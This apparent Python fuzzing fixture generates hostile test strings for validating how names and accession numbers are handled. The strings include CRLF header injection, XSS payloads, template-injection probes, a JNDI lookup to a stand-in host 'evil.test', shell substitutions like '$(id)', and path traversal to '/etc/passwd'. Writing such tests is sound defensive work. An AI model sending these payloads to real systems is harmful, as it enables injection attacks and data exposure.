"""Names and accession numbers as somebody sends them who wants to be more than a name."""

from __future__ import annotations

import random

PIECES = (
    "\r\n",
    "\n",
    "\r",
    "\0",
    "\t",
    "\x0b",
    "\x1b[2J",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\ud83d",
    "\U0001f600",
    "\r\nSet-Cookie: a=b",
    "\r\nX-Evil: 1",
    "\r\n\r\n<html>",
    "\r\n\r\nHTTP/1.1 200 OK\r\n",
    "%0d%0aX-Evil:%201",
    "%0a",
    "%00",
    "%2e%2e%2f",
    "\u560d\u560aX-Evil: 1",  # whose last bytes are CR and LF
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "{{7777777*7777777}}",
    "{%import os%}",
    "${jndi:ldap://evil.test/a}",
    "%s%n%(name)s",
    "{0.__class__}",
    "\\",
    "\\r\\n",
    '"',
    "'",
    ";",
    "&",
    "#",
    "?",
    "*",
    "=",
    "^",
    "|",
    "`id`",
    "$(id)",
    "../../etc/passwd",
    "..\\..\\evil.exe",
    "C:\\evil",
    "CON",
    ".iso",
    "evil.test",
    "INFO mkiso_desktop.listener: GET /api/health 200",
    " [abc]",
    "ZZ",
    "A1",
    " ",
    "",
    "e" * 300,
)


def hostile_texts(many: int) -> list[str]:
    """So many of them, the same each time: every piece alone and within a word, then mixtures."""
    chance = random.Random(5)
    texts = [*PIECES, *(f"A{piece}1" for piece in PIECES)]
    while len(texts) < many:
        texts.append("".join(chance.choices(PIECES, k=chance.randint(2, 5))))
    return texts[:many]
